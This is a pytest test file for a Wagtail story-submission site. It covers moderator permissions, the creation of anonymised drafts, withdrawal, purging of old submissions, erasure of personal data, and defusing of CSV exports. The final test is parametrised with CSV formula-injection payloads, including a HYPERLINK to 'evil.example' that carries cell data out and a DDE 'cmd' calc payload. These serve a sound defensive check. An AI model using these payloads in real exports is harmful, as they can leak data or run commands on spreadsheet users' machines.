"""Only Story moderators read submissions; they turn one into a draft story, and
stories go through the moderation workflow before they are published."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone
from wagtail.models import Page
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield

from stories.models import StoryPage, StorySubmission
from tests.conftest import soup

from .conftest import valid_post

pytestmark = pytest.mark.django_db

LIST = "/admin/snippets/stories/storysubmission/"


@pytest.fixture
def submission(client, share_page):
    assert client.post("/stories/share/", valid_post()).status_code == 302
    return StorySubmission.objects.get()


def _denied(response):
    """Wagtail answers a missing permission with a redirect to the dashboard, or a 403."""
    return response.status_code == 403 or (response.status_code == 302 and "/login/" not in response["Location"])


def test_an_editor_without_the_group_cannot_see_list_read_or_export(client, submission, editor):
    client.force_login(editor)
    for url in [LIST, f"{LIST}inspect/{submission.pk}/", f"{LIST}edit/{submission.pk}/", f"{LIST}?export=csv",
                f"/admin/stories/submissions/{submission.pk}/create-story/",
                f"/admin/stories/submissions/{submission.pk}/withdraw/"]:
        response = client.get(url)
        assert _denied(response), url
        assert b"robin@example.org" not in response.content
    assert client.post(f"/admin/stories/submissions/{submission.pk}/withdraw/").status_code in (302, 403)
    assert StorySubmission.objects.filter(pk=submission.pk).exists()
    # Not even in the menu.
    assert "Story submissions" not in client.get("/admin/").content.decode()


def test_a_superuser_sees_submissions_too(client, submission, admin_user):
    client.force_login(admin_user)
    assert "robin@example.org" in client.get(f"{LIST}inspect/{submission.pk}/").content.decode()


def test_a_visitor_is_sent_to_log_in(client, submission):
    response = client.get(LIST)
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_a_moderator_reads_and_exports_submissions(client, submission, moderator):
    client.force_login(moderator)
    assert "Story submissions" in client.get("/admin/").content.decode()
    listing = client.get(LIST)
    assert listing.status_code == 200 and "Robin" in listing.content.decode()
    actions = {a["href"] for a in soup(listing).select("a[href]")}
    assert f"/admin/stories/submissions/{submission.pk}/create-story/" in actions
    assert f"/admin/stories/submissions/{submission.pk}/withdraw/" in actions
    detail = client.get(f"{LIST}inspect/{submission.pk}/").content.decode()
    assert "twins were born early" in detail and "robin@example.org" in detail
    assert submission.publish_consent_text in detail
    export = client.get(f"{LIST}?export=csv")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode() if export.streaming else export.content.decode())))
    assert len(rows) == 1
    assert "robin@example.org" in rows[0].values()
    # Nobody adds submissions by hand: they come only from readers.
    assert _denied(client.get(f"{LIST}add/"))


def test_moderator_turns_a_submission_into_a_draft_story(client, submission, moderator):
    client.force_login(moderator)
    url = f"/admin/stories/submissions/{submission.pk}/create-story/"
    assert client.get(url).status_code == 200  # a confirmation, nothing changed yet
    assert not StoryPage.objects.filter(slug=f"story-{submission.pk}").exists()
    response = client.post(url)
    story = StoryPage.objects.get(slug=f"story-{submission.pk}")
    assert response.status_code == 302 and response["Location"] == f"/admin/pages/{story.pk}/edit/"
    assert not story.live
    assert story.role == "received"
    assert set(story.topics.values_list("slug", flat=True)) == {"twins-and-multiples", "premature-or-sick-babies"}
    assert story.consent_version == submission.consent_version
    # Nothing the reader wrote is copied: not the story, the name or the email, in any field or revision.
    assert story.title == f"Story from submission {submission.pk}" and story.byline == "Anonymous"
    revision = str(story.latest_revision.content)
    for personal in ["twins were born early", "Robin", "robin@example.org"]:
        assert personal not in revision
    submission.refresh_from_db()
    assert submission.story_page_id == story.pk and submission.status == StorySubmission.STORY_CREATED
    # The draft opens in the editor.
    assert client.get(response["Location"]).status_code == 200


def test_a_plain_editor_cannot_reach_a_submitters_story_or_name_through_the_draft(
    client, submission, moderator, editor
):
    client.force_login(moderator)
    client.post(f"/admin/stories/submissions/{submission.pk}/create-story/")
    story = StoryPage.objects.get(slug=f"story-{submission.pk}")
    client.force_login(editor)
    urls = [
        f"/admin/pages/{story.pk}/edit/",
        f"/admin/pages/{story.pk}/view_draft/",
        f"/admin/pages/{story.pk}/history/",
        f"/admin/pages/{story.get_parent().pk}/",
        "/admin/stories/storypage/",
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code in (200, 302), url
        text = response.content.decode()
        for personal in ["twins were born early", "Robin", "robin@example.org"]:
            assert personal not in text, (url, personal)
    # Searching for the name or the story's words does not find the draft.
    for url in ["/admin/pages/search/?q=Robin", "/admin/pages/search/?q=twins+born+early",
                "/admin/stories/storypage/?q=Robin"]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert not soup(response).select(f'a[href^="/admin/pages/{story.pk}/"]'), url
    assert soup(client.get("/admin/pages/search/?q=submission")).select(f'a[href^="/admin/pages/{story.pk}/"]')
    # The draft itself is reachable (editors help with stories), it just holds nothing personal.
    assert "Story from submission" in client.get("/admin/stories/storypage/").content.decode()


def test_stories_go_through_the_moderation_workflow(client, story_index, editor, moderator):
    story = StoryPage.objects.child_of(story_index).first()
    workflow = story.get_workflow()
    assert workflow is not None and workflow.active
    # An editor without publish permission cannot publish a story directly...
    client.force_login(editor)
    draft = StoryPage(title="Editor's story", slug="editors-story", byline="Sam", body=[], live=False)
    story_index.add_child(instance=draft)
    draft.save_revision(user=editor)
    edit = f"/admin/pages/{draft.pk}/edit/"
    form = nested_form_data({
        "title": "Editor's story", "slug": "editors-story", "byline": "Sam", "role": "received",
        "story_date": "2016-06-01", "pull_quote": "", "consent_given_at": "", "consent_version": "",
        "body": streamfield([("rich_text", rich_text("<p>What helped me.</p>"))]),
        "support_links": inline_formset([]),
    })
    response = client.post(edit, {**form, "action-publish": "action-publish"})
    draft.refresh_from_db()
    assert not draft.live, response.content.decode()[:2000]
    # ...they submit it for moderation instead.
    response = client.post(edit, {**form, "action-submit": "action-submit"})
    assert response.status_code == 302, response.context["form"].errors if response.context else response
    draft.refresh_from_db()
    assert not draft.live and draft.workflow_in_progress
    # A story moderator can publish.
    assert draft.permissions_for_user(moderator).can_publish()


def test_withdrawal_deletes_the_submission_and_its_story(client, submission, moderator):
    client.force_login(moderator)
    client.post(f"/admin/stories/submissions/{submission.pk}/create-story/")
    story = StoryPage.objects.get(slug=f"story-{submission.pk}")
    story.byline = "Robin"
    story.save_revision().publish()
    url = f"/admin/stories/submissions/{submission.pk}/withdraw/"
    assert client.get(url).status_code == 200
    assert client.post(url).status_code == 302
    assert not StorySubmission.objects.exists()
    assert not Page.objects.filter(pk=story.pk).exists()
    assert client.get("/stories/").content.decode().count("Robin") == 0


def test_purge_deletes_old_submissions_unless_their_story_is_live(client, share_page, moderator):
    for email in ["old@example.org", "published@example.org", "recent@example.org"]:
        client.post("/stories/share/", valid_post(email=email))
    old_date = timezone.now() - timedelta(days=181)
    StorySubmission.objects.exclude(email="recent@example.org").update(submitted_at=old_date)
    client.force_login(moderator)
    published = StorySubmission.objects.get(email="published@example.org")
    client.post(f"/admin/stories/submissions/{published.pk}/create-story/")
    StoryPage.objects.get(pk=StorySubmission.objects.get(pk=published.pk).story_page_id).save_revision().publish()

    out = io.StringIO()
    call_command("purge_story_submissions", stdout=out)
    assert "Deleted 1 story submission older than 180 days" in out.getvalue()
    assert set(StorySubmission.objects.values_list("email", flat=True)) == {"published@example.org", "recent@example.org"}

    with pytest.raises(CommandError):
        call_command("purge_story_submissions", "--older-than", "0")
    out = io.StringIO()
    call_command("purge_story_submissions", "--older-than", "1", "--dry-run", stdout=out)
    assert "Would delete 0" in out.getvalue()



def test_stories_menu_lists_story_pages_with_filters(client, story_index, editor):
    provider = StoryPage.objects.get(slug="people-going-through-the-same-things")
    provider.role = "provided"
    provider.save_revision()  # a draft change: the live page still says "received"
    draft = StoryPage(title="Unpublished draft story", slug="draft-story", byline="Jo", role="both", body=[], live=False)
    story_index.add_child(instance=draft)
    client.force_login(editor)
    assert "Stories" in client.get("/admin/").content.decode()
    url = "/admin/stories/storypage/"

    def titles(query=""):
        page = soup(client.get(url + query))
        return {a.get_text(strip=True) for a in page.select("table.listing td.field-title .title-wrapper a")}

    everything = titles()
    assert {"Unpublished draft story", "Not alone in difficult times"} <= everything
    assert titles("?live__exact=0") == {"Unpublished draft story"}
    assert titles("?role__exact=both") == {"Unpublished draft story"}
    single = titles("?topics__id__exact=%d" % provider.topics.get(slug="single-parenting").pk)
    assert single == {"Not alone in difficult times", provider.title}


def test_demo_content_makes_varied_stories(story_index):
    call_command("generate_demo_content", "--stories", "12", stdout=io.StringIO())
    demo = StoryPage.objects.filter(slug__startswith="demo-story-")
    assert demo.count() == 12 and all(story.live for story in demo)
    assert len(set(demo.values_list("role", flat=True))) == 3
    assert demo.filter(content_notes__isnull=False).exists() and demo.filter(content_notes__isnull=True).exists()


# --- Personal data is erased everywhere Wagtail keeps it ---------------------------------

NAME, WORDS = "Zebediah", "marmalade lighthouse"


def database_text():
    """Every row of every table (Wagtail's search index, revisions and logs included), as one string."""
    from django.db import connection

    chunks = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names(include_views=False):
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")
            for row in cursor.fetchall():
                for value in row:
                    if isinstance(value, (bytes, memoryview)):
                        value = bytes(value).decode("utf-8", "replace")
                    chunks.append(str(value))
    return "\n".join(chunks).lower()


def _published_story_from(client, moderator, **post):
    """A submission, and the story a moderator made from it with the storyteller's name and words."""
    from wagtail.rich_text import RichText

    assert client.post("/stories/share/", valid_post(
        name=NAME, story=f"The {WORDS} group helped me more than I can say.", **post
    )).status_code == 302
    submission = StorySubmission.objects.get()
    client.force_login(moderator)
    client.post(f"/admin/stories/submissions/{submission.pk}/create-story/")
    story = StoryPage.objects.get(slug=f"story-{submission.pk}")
    story.title, story.byline = f"{NAME}'s story", NAME
    story.body = [("rich_text", RichText(f"<p>The {WORDS} group helped me.</p>"))]
    story.save_revision(user=moderator, log_action=True).publish(user=moderator)
    assert NAME.lower() in database_text() and WORDS in database_text()
    return submission, story


def test_withdrawal_leaves_the_name_and_story_nowhere_in_the_database(client, share_page, moderator, admin_user):
    submission, story = _published_story_from(client, moderator)
    assert client.post(f"/admin/stories/submissions/{submission.pk}/withdraw/").status_code == 302
    text = database_text()
    assert NAME.lower() not in text and WORDS not in text
    # The site history still records that a story was deleted, without saying whose.
    client.force_login(admin_user)
    history = client.get("/admin/reports/site-history/")
    assert history.status_code == 200 and "A story withdrawn" in history.content.decode()


def test_purge_leaves_the_name_and_story_nowhere_in_the_database(client, share_page, moderator):
    submission, story = _published_story_from(client, moderator)
    StoryPage.objects.get(pk=story.pk).unpublish(user=moderator)  # taken down, so the purge may delete it
    StorySubmission.objects.update(submitted_at=timezone.now() - timedelta(days=181))
    call_command("purge_story_submissions", stdout=io.StringIO())
    assert not StorySubmission.objects.exists() and not StoryPage.objects.filter(pk=story.pk).exists()
    text = database_text()
    assert NAME.lower() not in text and WORDS not in text


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?"&B2,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
])
def test_csv_export_never_hands_a_spreadsheet_a_formula(client, share_page, moderator, hostile):
    client.post("/stories/share/", valid_post(name=hostile[:100], support_that_helped=hostile,
                                             story=hostile + " and then the group helped me a lot."))
    client.force_login(moderator)
    export = client.get(f"{LIST}?export=csv")
    body = b"".join(export.streaming_content).decode() if export.streaming else export.content.decode()
    row = list(csv.DictReader(io.StringIO(body)))[0]
    for heading in ["Name", "Story", "Support that helped"]:
        assert row[heading].startswith("'"), (heading, row[heading])
        assert row[heading][1:].startswith(hostile.strip()[:10])  # the text is kept, only defused
    assert row["Email"] == "robin@example.org"  # ordinary text is untouched
